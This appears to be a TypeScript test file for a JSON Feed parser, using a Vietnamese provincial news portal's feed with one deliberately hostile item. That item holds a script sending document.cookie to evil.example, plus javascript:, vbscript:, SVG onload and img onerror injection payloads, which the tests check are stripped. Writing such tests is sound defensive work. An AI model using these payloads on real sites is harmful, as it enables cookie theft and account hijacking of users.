import { expect } from 'chai';
import { FeedFormatError } from '../item.ts';
import { parseJsonFeed } from './jsonfeed.ts';

// A provincial portal's JSON Feed 1.1, as its CMS writes it: relative links, 1.1 `authors` and a
// 1.0 `author`, an audio attachment, a text-only item, and one item written to do harm.
const festivalHtml = '<p>Tối 14/12, UBND thành phố Hội An tổ chức khai mạc <strong>Lễ hội đêm rằm phố cổ</strong>.</p>\n<p>Du khách thả hoa đăng trên sông Hoài.</p>';
const hostileHtml = '<p>Nội dung</p><script>fetch("https://evil.example/?c="+document.cookie)</script>';
const feed = {
  version: 'https://jsonfeed.org/version/1.1',
  title: 'Cổng thông tin điện tử tỉnh Quảng Nam',
  home_page_url: 'https://quangnam.example.vn/',
  feed_url: 'https://quangnam.example.vn/feed.json',
  language: 'vi',
  items: [
    {
      id: 'https://quangnam.example.vn/?p=48213',
      url: '/tin-tuc/khai-mac-le-hoi-hoi-an-48213.html',
      title: 'Khai mạc Lễ hội đêm rằm phố cổ Hội An',
      summary: 'Tối 14/12, thành phố Hội An khai mạc lễ hội đêm rằm với nhiều hoạt động văn hóa truyền thống.',
      content_html: festivalHtml,
      content_text: 'Tối 14/12, UBND thành phố Hội An tổ chức khai mạc Lễ hội đêm rằm phố cổ.',
      image: '/uploads/2026/12/hoi-an-dem-ram.jpg',
      banner_image: 'https://quangnam.example.vn/uploads/2026/12/banner.jpg',
      date_published: '2026-12-14T19:30:00+07:00',
      date_modified: '2026-12-14T21:05:00+07:00',
      authors: [{ name: 'Minh Tâm', url: 'https://quangnam.example.vn/tac-gia/minh-tam' }, { name: 'Thu Hà' }],
      tags: ['Văn hóa - Du lịch', 'Hội An'],
      language: 'vi',
      attachments: [{ url: 'https://quangnam.example.vn/podcast/hoi-an.mp3', mime_type: 'audio/mpeg', title: 'Bản tin âm thanh', size_in_bytes: 2_457_600, duration_in_seconds: 183 }],
    },
    {
      id: 48190,
      url: 'https://quangnam.example.vn/tin-tuc/thong-bao-lich-tiep-cong-dan-48190.html',
      title: 'Thông báo lịch tiếp công dân tháng 12',
      content_text: 'Chủ tịch UBND tỉnh tiếp công dân ngày 20/12 tại trụ sở <số 62 Hùng Vương> & các điểm cầu.',
      date_modified: '2026-12-10 08:00',
      author: { name: 'Văn phòng UBND tỉnh' },
    },
    {
      id: 'xss-1',
      url: 'javascript:alert(document.cookie)',
      title: '<img src=x onerror=alert(1)>Tin giả',
      content_html: hostileHtml,
      image: 'data:image/svg+xml,<svg onload=alert(1)>',
      banner_image: 'vbscript:msgbox(1)',
      date_published: 'hôm qua',
      authors: 'Ai đó',
      tags: [{ name: 'không phải chuỗi' }],
    },
    'một mục không phải đối tượng',
  ],
};

describe('JSON Feed parser', () => {
  const items = parseJsonFeed('https://quangnam.example.vn/feed.json', JSON.stringify(feed));

  it('reads a 1.1 item: links against the feed, content_html before content_text, the first author and tag, the published date', () => {
    expect(items).to.have.length(4);
    expect(items[0]).to.deep.equal({
      guid: 'https://quangnam.example.vn/?p=48213',
      url: 'https://quangnam.example.vn/tin-tuc/khai-mac-le-hoi-hoi-an-48213.html',
      title: 'Khai mạc Lễ hội đêm rằm phố cổ Hội An',
      summary: 'Tối 14/12, thành phố Hội An khai mạc lễ hội đêm rằm với nhiều hoạt động văn hóa truyền thống.',
      bodyHtml: festivalHtml,
      author: 'Minh Tâm',
      category: 'Văn hóa - Du lịch',
      // the image, not the banner nor the audio attachment
      imageUrl: 'https://quangnam.example.vn/uploads/2026/12/hoi-an-dem-ram.jpg',
      publishedAt: new Date(Date.UTC(2026, 11, 14, 12, 30)),
      rawDate: '2026-12-14T19:30:00+07:00',
    });
  });

  it('reads a 1.0 item: a numeric id, content_text escaped into a paragraph, the author object, date_modified without an offset in Viet Nam time', () => {
    expect(items[1]).to.deep.equal({
      guid: '48190',
      url: 'https://quangnam.example.vn/tin-tuc/thong-bao-lich-tiep-cong-dan-48190.html',
      title: 'Thông báo lịch tiếp công dân tháng 12',
      summary: '',
      bodyHtml: '<p>Chủ tịch UBND tỉnh tiếp công dân ngày 20/12 tại trụ sở &lt;số 62 Hùng Vương&gt; &amp; các điểm cầu.</p>',
      author: 'Văn phòng UBND tỉnh',
      category: undefined,
      imageUrl: undefined,
      publishedAt: new Date(Date.UTC(2026, 11, 10, 1, 0)),
      rawDate: '2026-12-10 08:00',
    });
  });

  it('keeps no script link or image of a hostile item, and names its unreadable date instead of guessing', () => {
    const hostile = items[2]!;
    expect(hostile.url).to.equal(undefined);
    expect(hostile.imageUrl).to.equal(undefined);
    expect(hostile.guid).to.equal('xss-1');
    // authors that is not a list and a tag that is not a string are dropped, not stringified
    expect(hostile.author).to.equal(undefined);
    expect(hostile.category).to.equal(undefined);
    expect(hostile.publishedAt).to.equal(undefined);
    expect(hostile.rawDate).to.equal('hôm qua');
    // markup is left whole for cleaning, which sanitizes the body and keeps only the text of the title
    expect(hostile.bodyHtml).to.equal(hostileHtml);
    expect(hostile.title).to.equal('<img src=x onerror=alert(1)>Tin giả');
  });

  it('turns an entry that is not an object into an item without a title or a guid, which cleaning rejects', () => {
    expect(items[3]).to.deep.equal({ guid: '', url: undefined, title: '', summary: '', bodyHtml: '', author: undefined, category: undefined, imageUrl: undefined, publishedAt: undefined, rawDate: undefined });
  });

  it('falls back to the banner image and to the link for a guid', () => {
    const [item] = parseJsonFeed('https://quangnam.example.vn/feed.json', JSON.stringify({ version: feed.version, items: [{ url: '/tin/1.html', title: 'Tin', banner_image: '/anh/1.jpg' }] }));
    expect(item!.guid).to.equal('https://quangnam.example.vn/tin/1.html');
    expect(item!.imageUrl).to.equal('https://quangnam.example.vn/anh/1.jpg');
  });

  it('refuses a body that is not JSON, or not a feed with an items array, as an unreadable feed', () => {
    for (const body of ['<html><body>502 Bad Gateway</body></html>', '{"version":"https://jsonfeed.org/version/1.1","items":', '[]', 'null', '{"version":"https://jsonfeed.org/version/1.1","items":{}}']) {
      expect(() => parseJsonFeed('https://quangnam.example.vn/feed.json', body), body).to.throw(FeedFormatError);
    }
  });
});
